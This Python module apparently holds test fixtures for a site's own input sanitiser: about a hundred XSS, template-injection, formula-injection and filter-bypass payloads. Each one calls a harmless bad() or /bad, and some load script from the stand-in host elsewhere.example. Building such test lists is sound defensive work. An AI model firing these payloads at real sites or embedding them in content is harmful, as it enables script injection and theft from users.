"""A hundred ways to make a text do something, written for this house. Every one calls ``bad()`` or asks for ``/bad``."""

_EVENTS = [
    "<img src=/bad onerror=bad()>",
    "<svg onload=bad()>",
    "<svg/onload=bad()//",
    "<body onload=bad()>",
    "<video src=/bad onerror=bad()></video>",
    "<audio src=/bad onerror=bad()>",
    "<video><source src=/bad onerror=bad()></video>",
    "<input autofocus onfocus=bad()>",
    "<select autofocus onfocus=bad()></select>",
    "<textarea autofocus onfocus=bad()></textarea>",
    "<details open ontoggle=bad()>mer</details>",
    "<svg><animate onbegin=bad() attributeName=x dur=1s>",
    "<svg><script>bad()</script></svg>",
    "<div style=animation:x onanimationstart=bad()>ord</div>",
    "<p onpointerenter=bad() style=position:fixed;inset:0>ord</p>",
    "<script>bad()</script>",
    "<script src=/bad></script>",
    "<script src=//elsewhere.example/bad></script>",
    "<script type=module>import('/bad')</script>",
    "<script src=data:text/javascript,bad()></script>",
]
_ADDRESSES = [
    "<iframe src=javascript:bad()></iframe>",
    "<iframe srcdoc='<script>parent.bad()</script>'></iframe>",
    "<object data=javascript:bad()></object>",
    "<embed src=javascript:bad()>",
    "<a href=javascript:bad()>trykk</a>",
    "<a href='java&Tab;script:bad()'>trykk</a>",
    "<form action=javascript:bad()><button>send</button></form>",
    "<button form=writer formaction=/bad autofocus>send</button>",
    "<math><a xlink:href=javascript:bad()>m</a></math>",
    "<meta http-equiv=refresh content='0;url=/bad'>",
    "<base href=//elsewhere.example/>",
    "<link rel=stylesheet href=//elsewhere.example/bad.css>",
    "<link rel=preload as=script href=/bad>",
    "<style>@import '/bad';</style>",
    "<style>*{background:url(/bad)}</style>",
    "<p style=background:url(/bad)>ord</p>",
    "<table background=/bad><tr><td>ord</table>",
    "<img srcset='/bad 1x' alt=ord>",
    "<picture><source srcset=/bad><img alt=ord></picture>",
    "[trykk](javascript:bad()) ![bilde](/bad)",
]
_BREAKS = [
    end + "<img src=/bad onerror=bad()>"
    for end in (
        '">',
        "'>",
        "`>",
        "-->",
        "]]>",
        "</textarea>",
        "</title>",
        "</script>",
        "</style>",
        "</template>",
        "</noscript>",
        "</blockquote>",
        "\" data-x='",
        "\\u003e",
        "&quot;&gt;",
    )
]
_OURS = [
    "<div hx-get=/bad hx-trigger=load>",
    "<div data-hx-get=/bad data-hx-trigger=load>",
    "<div hx-on::load=bad()>",
    "<div hx-vals='js:{a:bad()}' hx-post=/bad hx-trigger=load>",
    "<live-room data-src=/bad? data-poll=/bad data-version=0></live-room>",
    "<note-outbox data-url=/bad data-round=x></note-outbox>",
    "<template data-row=hard-stop><script>bad()</script></template>",
    "<input name=csrfmiddlewaretoken value=bad>",
    "<section id=stage data-round=bad></section>",
    "<form id=writer action=/bad></form>",
    "<img name=body><img id=bad><img name=getElementById>",
    "<p id=said data-five='<img src=/bad onerror=bad()>'>",
    "<a id=line href=/bad>a</a><a id=line name=refresh>b</a>",
    "<slot name=actions><script>bad()</script></slot>",
    "<c-icon name=bad /><c-button onclick=bad() />",
]
_TEMPLATES = [
    "{{ bad }} {% include '/bad' %} {# bad #}",
    "{% load bad %}{{ request.META }}",
    "{{constructor.constructor('bad()')()}}",
    "${bad()} #{bad()} <%= bad() %> [[bad()]]",
    "{{r bad }} {%p for x in bad %} {%tr endfor %}",
    '#eval("bad()") #include "/bad"',
    '#import "/bad": * $ sum_bad $ \\u{62}',
    '=HYPERLINK("//elsewhere.example/bad","trykk")',
    "@SUM(1+1)*cmd|'/C bad'!A0",
    "%(bad)s %s %d {0.__class__} {bad!r}",
]
_ENCODED = [
    "&lt;script&gt;bad()&lt;/script&gt;",
    "&#60;img src=/bad onerror=bad()&#62;",
    "&#x3c;img src=/bad onerror=bad()&#x3e;",
    "%3Cscript%3Ebad()%3C/script%3E",
    "\\u003cscript\\u003ebad()\\u003c/script\\u003e",
    "\\x3cimg src=/bad onerror=bad()\\x3e",
    "＜script＞bad()＜/script＞",
    "+ADw-script+AD4-bad()+ADw-/script+AD4-",
    "<scr<script>ipt>bad()</scr</script>ipt>",
    "<<script>>bad()<</script>>",
]
_OTHER_CASE = [
    text.replace("<i", "<I").replace("<s", "<S").replace("on", "oN").replace("src", "sRc")
    for text in _EVENTS[:10]
]

PAYLOADS = [*_EVENTS, *_ADDRESSES, *_BREAKS, *_OURS, *_TEMPLATES, *_ENCODED, *_OTHER_CASE]
